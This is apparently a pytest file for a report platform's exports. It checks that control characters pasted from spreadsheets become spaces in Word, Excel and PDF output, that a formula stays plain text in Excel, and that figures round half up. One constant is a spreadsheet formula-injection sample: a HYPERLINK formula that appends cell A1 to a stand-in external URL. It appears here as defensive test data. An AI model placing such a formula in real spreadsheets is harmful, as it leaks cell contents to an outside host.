"""What holds for every format: text pasted from a spreadsheet does not break a document, a title is never an Excel
formula, and figures are rounded as everywhere else in the platform (half up)."""

import dataclasses
import io
from decimal import Decimal as D

import docx
import openpyxl
import pytest
from django.utils import translation
from pypdf import PdfReader

from nsm.reports.document import Row, format_value
from nsm.reports.generate import render
from tests.reports.samples import sample_document

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


def pasted(document):
    """The sample with a vertical tab in its title, a narrative and a table cell, and a formula as an activity."""
    annex = document.sections[2]
    table = annex.blocks[0]
    rows = (
        Row(("1.1.1.1", "Line one\x0bline two", *table.rows[2].values[2:])),
        Row(("1.1.1.2", FORMULA, *table.rows[3].values[2:])),
    )
    return dataclasses.replace(
        document,
        title="Raporti\x0bvjetor",
        sections=(dataclasses.replace(annex, blocks=(dataclasses.replace(table, rows=rows),)),),
    )


def test_control_characters_become_spaces_in_word():
    word = docx.Document(io.BytesIO(render(pasted(sample_document(activities=2)), "docx")))
    texts = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    assert "Line one line two" in texts and FORMULA in texts
    assert any(paragraph.text == "Raporti vjetor" for paragraph in word.paragraphs)


def test_control_characters_become_spaces_and_formulas_stay_text_in_excel():
    book = openpyxl.load_workbook(io.BytesIO(render(pasted(sample_document(activities=2)), "xlsx")))
    assert book.worksheets[0]["A1"].value == "Raporti vjetor"
    cells = [cell for row in book["Matrica"].iter_rows() for cell in row]
    formula = next(cell for cell in cells if cell.value == FORMULA)
    assert formula.data_type == "s"  # text, not a formula Excel would run
    assert any(cell.value == "Line one line two" for cell in cells)


def test_control_characters_do_not_stop_the_pdf():
    reader = PdfReader(io.BytesIO(render(pasted(sample_document(activities=2)), "pdf")))
    assert "Raporti vjetor" in reader.pages[0].extract_text()


@pytest.mark.parametrize(
    ("value", "kind", "english"),
    [
        (D("2.5"), "money", "3"),
        (D("1000000.50"), "money", "1,000,001"),
        (D("12.25"), "percent", "12.3\u00a0%"),
        (D(100), "percent", "100\u00a0%"),
        (None, "number", "—"),
        ("", "text", ""),
        (D("0.125"), "number", "0.125"),
    ],
)
def test_figures_are_rounded_half_up_as_in_the_rest_of_the_platform(value, kind, english):
    with translation.override("en"):
        assert format_value(value, kind) == english
